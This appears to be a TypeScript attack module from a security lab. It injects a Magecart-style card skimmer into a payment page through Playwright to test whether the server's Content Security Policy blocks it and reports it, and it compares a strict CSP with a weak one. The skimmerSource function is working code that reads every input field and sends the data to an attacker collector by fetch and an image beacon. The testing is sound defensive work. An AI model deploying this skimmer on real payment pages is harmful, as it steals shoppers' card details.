// A Magecart-style skimmer in the payment page, in Chromium: the page's HTML is altered on its way
// to the browser (as a compromised dependency, CDN or XSS would) to carry one script from the
// attacker's origin and one inline script. Both read what the shopper can type and send it to
// the attacker's collector, another loopback origin. The page keeps the server's headers, so the
// server's CSP decides what runs and where data may go; what it blocks it reports (/csp-reports,
// stored for `npm run monitor -- --csp-reports <database>`).
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import { chromium } from '@playwright/test';
import { ensureDevCertificate } from '../../../common/dev-certs';
import { readCspReportsSince } from '../../../server/src/store/csp-report-store';
import { CHROMIUM_ARGS, findChromium } from '../../../test-support/browser';
import type { AttackCase, AttackOutcome, LabAttack } from '../attack';
import type { LabTarget } from '../target';

/** The attacker's server: serves the skimmer and records what reaches it. */
async function startCollector(): Promise<{ origin: string; received: string[]; close(): Promise<void> }> {
  const { cert, key } = await ensureDevCertificate();
  const received: string[] = [];
  const server = https.createServer({ cert, key }, (req, res) => {
    const url = new URL(req.url ?? '/', 'https://collector');
    if (url.pathname === '/skimmer.js') {
      res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      res.end(skimmerSource('third-party', `https://${req.headers.host ?? ''}`));
      return;
    }
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      if (url.pathname === '/collect') received.push(url.searchParams.get('d') ?? Buffer.concat(chunks).toString('utf8'));
      res.writeHead(204, { 'access-control-allow-origin': '*' });
      res.end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `https://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { origin, received, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** What both scripts do: put a card field on the page (as skimmers overlay one), "type" in it, send it out two ways. */
function skimmerSource(which: string, collector: string): string {
  return `(() => {
  const field = document.createElement('input');
  field.name = 'cardnumber';
  field.value = '4242 4242 4242 4242';
  document.body.append(field);
  const loot = JSON.stringify({ from: '${which}', page: location.pathname, fields: [...document.querySelectorAll('input')].map((i) => i.name + '=' + i.value) });
  fetch('${collector}/collect', { method: 'POST', mode: 'no-cors', body: loot }).catch(() => {});
  new Image().src = '${collector}/collect?d=' + encodeURIComponent(loot);
})();`;
}

const PAGE = '/payment';

/**
 * The altered page is handed to Chromium by Playwright (route.fulfill), so Chromium knows no
 * address for it and treats it as public, and its Local Network Access checks would then stop
 * the skimmer's requests to the loopback collector whatever the CSP says. A real skimmer's
 * collector is on the public internet, where those checks do not apply: off for this run.
 */
const SKIMMER_ARGS = ['--disable-features=LocalNetworkAccessChecks'];

async function runSkimmer(target: LabTarget): Promise<AttackOutcome> {
  const collector = await startCollector();
  const since = Math.floor(Date.now() / 1000) - 1;
  const browser = await chromium.launch({ executablePath: findChromium(), args: [...CHROMIUM_ARGS, ...SKIMMER_ARGS] });
  const errors: string[] = [];
  try {
    const context = await browser.newContext({ ignoreHTTPSErrors: true });
    const page = await context.newPage();
    page.on('console', (message) => {
      if (message.type() === 'error') errors.push(message.text());
    });
    // The injection: the server's response, headers untouched, with two scripts added to its HTML.
    await page.route(`${target.url}${PAGE}`, async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace(
        '</body>',
        `<script src="${collector.origin}/skimmer.js"></script><script>${skimmerSource('inline', collector.origin)}</script></body>`,
      );
      await route.fulfill({ response, body: html });
    });
    await page.goto(`${target.url}${PAGE}`, { waitUntil: 'load' });
    // Beacons and CSP reports leave after load: give them a moment.
    await page.waitForTimeout(1500);
    await context.close();
  } finally {
    await browser.close();
    await collector.close();
  }
  const reports = await readCspReportsSince({ engine: 'sqlite', file: target.sqliteFile }, since);
  const stored = reports.filter((report) => report.blockedUrl === collector.origin || report.blockedUrl === 'inline');
  const scripts = [...new Set(collector.received.map((loot) => (JSON.parse(loot) as { from: string }).from))];
  return {
    succeeded: collector.received.length > 0,
    observed: [
      `injected into ${PAGE}: <script src="${collector.origin}/skimmer.js"> and an inline <script>`,
      collector.received.length > 0
        ? `the collector at ${collector.origin} received ${collector.received.length} request(s) from the ${scripts.join(' and ')} skimmer: ${collector.received[0] ?? ''}`
        : `the collector at ${collector.origin} received nothing`,
      `browser console: ${errors.length} error(s)${errors[0] ? `, the first: ${errors[0].slice(0, 200)}` : ''}`,
      `CSP reports stored for it: ${stored.map((report) => `${report.directive} ${report.blockedUrl}`).join(', ') || 'none'} (npm run monitor -- --csp-reports <database> raises them)`,
    ],
  };
}

const skimmerCase = (label: string, control: AttackCase['control']): AttackCase => ({ label, control, run: runSkimmer });

export const skimmer: LabAttack = {
  name: 'skimmer',
  summary: "Inject a third-party and an inline skimmer into the payment page; they send what they read to the attacker's origin.",
  why: "A CSP with per-response nonces and 'strict-dynamic' runs only the scripts we shipped and reports the rest; PCI DSS 4.0 req. 6.4.3 and 11.6.1 ask for exactly this on payment pages (https://docs.stripe.com/security/guide#content-security-policy).",
  cases: [skimmerCase('skimmer', 'csp')],
};

export const weakCsp: LabAttack = {
  name: 'weak-csp',
  summary: "The same skimmer against a CSP with 'unsafe-inline' and a wildcard source, as many shops ship it.",
  why: "'unsafe-inline' lets any injected inline script run and a wildcard lets scripts load from and data go to anywhere: a CSP like that is a header, not a control (https://web.dev/articles/strict-csp; CSP Evaluator flags both).",
  cases: [skimmerCase('skimmer under a weak CSP', 'csp-strict')],
};
